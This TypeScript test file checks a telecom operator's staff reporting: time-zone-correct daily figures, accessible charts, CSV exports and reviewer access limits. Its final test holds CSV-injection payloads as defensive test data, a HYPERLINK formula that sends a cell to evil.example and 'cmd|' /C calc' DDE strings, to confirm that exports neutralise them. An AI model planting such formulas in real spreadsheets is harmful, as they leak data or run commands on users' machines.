import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { operatorReport } from '../../src/app/reports/reports.ts';
import type { Database } from '../../src/db/client.ts';
import { buildApp } from '../../src/web/app.ts';
import { inertCell } from '../../src/web/shared/csv.ts';
import { submittedRequest } from '../support/requests.ts';
import { seededDatabase } from '../support/seeded.ts';
import { testConfig } from '../support/test-config.ts';
import { staffClient } from '../support/web-client.ts';

/**
 * Requests, parcels and payments placed around midnight in several time zones, with the figures
 * for the local day 2026-12-01 worked out by hand in the comments.
 */
let database: Database;
let app: FastifyInstance;
let operatorId: string;
const id: Record<string, string> = {};

const q = (text: string, params: unknown[] = []) => database.raw.query(text, params);
const center = async (code: string) =>
  ((await q('select id from service_centers where code = $1', [code])) as { id: string }[])[0]?.id;

beforeAll(async () => {
  database = await seededDatabase();
  app = await buildApp({ config: testConfig, database, logger: false, now: () => new Date('2026-12-03T09:00:00Z') });
  const vvo = await center('VVO-SVET');
  const ekb = await center('EKB-LENIN');
  const place = async (name: string, msisdn: string, answers: Parameters<typeof submittedRequest>[2]) => {
    id[name] = (await submittedRequest(database, msisdn, answers)).requestId;
  };
  await place('A', '+79161110001', { reason: 'lost' });
  await place('B', '+79161110011', { reason: 'lost', delivery: 'pickup', centerId: vvo, deliveryAddress: null });
  await place('C', '+79161110021', { reason: 'damaged' });
  await place('D', '+79161110031', { reason: 'stolen', delivery: 'pickup', centerId: ekb, deliveryAddress: null });
  await place('E', '+79161110041', { reason: 'lost' });
  await place('F', '+79161110051', { reason: 'not_working' });
  const set = (name: string, sql: string, ...params: unknown[]) =>
    q(`update replacement_requests set ${sql} where id = $1`, [id[name], ...params]);
  // A: 23:30 in Moscow on 30 November: not in the period.
  await set('A', "submitted_at = '2026-11-30T20:30Z'");
  // B: at the Vladivostok center, 01:30 local on 1 December (still 30 November in Moscow); activated 14 h later.
  await set('B', "submitted_at = '2026-11-30T15:30Z', status = 'activated', activated_at = '2026-12-01T05:30Z'");
  // C: 11:00 in Moscow on 1 December, activated 10 h later.
  await set('C', "submitted_at = '2026-12-01T08:00Z', status = 'activated', activated_at = '2026-12-01T18:00Z'");
  // D: at Yekaterinburg, 00:30 local on 2 December (22:30 on the 1st in Moscow): not in the period.
  await set('D', "submitted_at = '2026-12-01T19:30Z'");
  // E: 15:00 in Moscow on 1 December, waiting for review from then, rejected an hour later.
  await set('E', "submitted_at = '2026-12-01T12:00Z', status = 'rejected', rejection_reason = 'Blurry scan'");
  const event = (type: string, from: string, to: string, at: string) =>
    q(
      `insert into request_events (operator_id, request_id, type, from_status, to_status, actor_kind, created_at)
       select operator_id, id, $2, $3, $4, 'staff', $5 from replacement_requests where id = $1`,
      [id.E, type, from, to, at],
    );
  await event('payment_succeeded', 'awaiting_payment', 'in_review', '2026-12-01T12:00Z');
  await event('reject', 'in_review', 'rejected', '2026-12-01T13:00Z');
  // F: submitted on 28 November, activated on 1 December after 72 h: counts for activation only.
  await set('F', "submitted_at = '2026-11-28T09:00Z', status = 'activated', activated_at = '2026-12-01T09:00Z'");

  operatorId = ((await q("select id from operators where slug = 'volna'")) as { id: string }[])[0]?.id as string;
  const parcel = (name: string, status: string, deliveredAt: string | null) =>
    q(
      `insert into shipments (operator_id, request_id, carrier, tracking_number, status, expected_from, expected_to, delivered_at)
       values ($1, $2, 'simpost', $3, $4, '2026-11-28', '2026-12-01', $5)`,
      [operatorId, id[name], `T-${name}`, status, deliveredAt],
    );
  await parcel('A', 'delivered', '2026-12-01T22:30Z'); // 01:30 on the 2nd in Moscow: late
  await parcel('C', 'delivered', '2026-12-01T20:00Z'); // 23:00 on the 1st in Moscow: on time
  await parcel('E', 'in_transit', null); // window passed by 3 December: overdue

  const [agent] = (await q("select id from staff_users where email = 'store-agent@volna.example'")) as { id: string }[];
  const pay = (name: string, method: string, amount: number, status: string, at: string, refundedAt: string | null) =>
    q(
      `insert into payments (operator_id, request_id, method, amount_minor, currency, status, provider, provider_ref,
                             idempotency_key, succeeded_at, refunded_at, center_id, received_by_staff_id)
       values ($1, $2, $3, $4, 'RUB', $5, $6, $7, $7, $8, $9, $10, $11)`,
      [
        operatorId,
        id[name],
        method,
        amount,
        status,
        method === 'cash' ? 'counter' : 'sandbox',
        `pay-${name}`,
        at,
        refundedAt,
        method === 'cash' ? vvo : null,
        method === 'cash' ? agent?.id : null,
      ],
    );
  await pay('C', 'card', 35_000, 'succeeded', '2026-12-01T10:00Z', null);
  await pay('B', 'cash', 20_000, 'succeeded', '2026-11-30T16:00Z', null); // 02:00 on the 1st in Vladivostok
  await pay('E', 'card', 35_000, 'refunded', '2026-11-30T10:00Z', '2026-12-01T14:00Z'); // paid before, refunded in
});
afterAll(async () => {
  await app.close();
  await database.close();
});

test('the figures of one local day across Moscow, Yekaterinburg and Vladivostok match the hand count', async () => {
  const report = await operatorReport(database.db, operatorId, { from: '2026-12-01', to: '2026-12-01' }, '2026-12-03');
  expect(report.byStatus).toEqual([
    { key: 'activated', n: 2 },
    { key: 'rejected', n: 1 },
  ]);
  expect(report.byChannel).toEqual([{ key: 'online', n: 3 }]);
  expect(report.byReason).toEqual([
    { key: 'lost', n: 2 },
    { key: 'damaged', n: 1 },
  ]);
  // 10, 14 and 72 hours: median 14; 90th percentile 14 + 0.8 × (72 − 14) = 60.4.
  expect(report.activation).toEqual({ count: 3, medianHours: 14, p90Hours: 60.4, targetHours: 120, withinTarget: 3 });
  expect(report.review).toEqual({ count: 1, medianHours: 1, p90Hours: 1 });
  expect(report.rejections).toEqual([{ key: 'Blurry scan', n: 1 }]);
  expect(report.deliveries).toEqual({ due: 3, onTime: 1, deliveredLate: 1, overdue: 1 });
  expect(report.money).toEqual([
    { method: 'card', collectedMinor: 35_000, refundedMinor: 35_000 },
    { method: 'cash', collectedMinor: 20_000, refundedMinor: 0 },
  ]);

  const twoDays = await operatorReport(database.db, operatorId, { from: '2026-11-30', to: '2026-12-02' }, '2026-12-03');
  expect(twoDays.byStatus.reduce((sum, s) => sum + s.n, 0)).toBe(5);
});

test('the page draws each count as an accessible chart beside its table, and every table downloads as CSV', async () => {
  const admin = await staffClient(app, database, 'admin@volna.example');
  const page = await admin.get('/staff/reports?from=2026-12-01&to=2026-12-01');
  expect(page.statusCode).toBe(200);
  expect(page.body).toMatch(/<svg class="chart"[^>]*role="img"/);
  expect(page.body).toContain('<desc id="chart-status-desc">Activated: 2; Rejected: 1</desc>');
  expect(page.body).toContain('60.4 h');
  const csv = await admin.get('/staff/reports/money.csv?from=2026-12-01&to=2026-12-01');
  expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(csv.headers['content-disposition']).toBe('attachment; filename="volna-money-2026-12-01-2026-12-01.csv"');
  expect(csv.body).toBe(
    '\uFEFFPayment method,Collected (RUB),Refunded (RUB)\nBank card,350.00,350.00\nCash,200.00,0.00\n',
  );
  expect((await admin.get('/staff/reports/secrets.csv')).statusCode).toBe(404);
  const reversed = await admin.get('/staff/reports?from=2026-12-02&to=2026-11-30');
  expect(reversed.body).toContain('value="2026-11-30"');
});

test('reviewers see the work, not the money', async () => {
  const reviewer = await staffClient(app, database, 'reviewer@volna.example');
  const page = await reviewer.get('/staff/reports?from=2026-12-01&to=2026-12-01');
  expect(page.statusCode).toBe(200);
  expect(page.body).toContain('/staff/reports/status.csv');
  expect(page.body).not.toContain('/staff/reports/money.csv');
  expect((await reviewer.get('/staff/reports/money.csv?from=2026-12-01&to=2026-12-01')).statusCode).toBe(404);
  expect((await reviewer.get('/staff/reports/status.csv?from=2026-12-01&to=2026-12-01')).statusCode).toBe(200);
});

test('a rejection reason typed as a formula is exported as text, never as a formula (OWASP CSV injection)', async () => {
  await database.raw.query(
    `update replacement_requests set rejection_reason = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
      where rejection_reason = 'Blurry scan'`,
  );
  const admin = await staffClient(app, database, 'admin@volna.example');
  const csv = await admin.get('/staff/reports/rejections.csv?from=2026-12-01&to=2026-12-01');
  expect(csv.body).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",1`);
  for (const lead of ['+', '-', '@', '\t', '\r'])
    expect(inertCell(`${lead}cmd|' /C calc'!A0`)).toBe(`'${lead}cmd|' /C calc'!A0`);
  expect(inertCell(-5)).toBe(-5);
  expect(inertCell('Blurry scan')).toBe('Blurry scan');
  await database.raw.query(
    "update replacement_requests set rejection_reason = 'Blurry scan' where rejection_reason like '=HYPERLINK%'",
  );
});
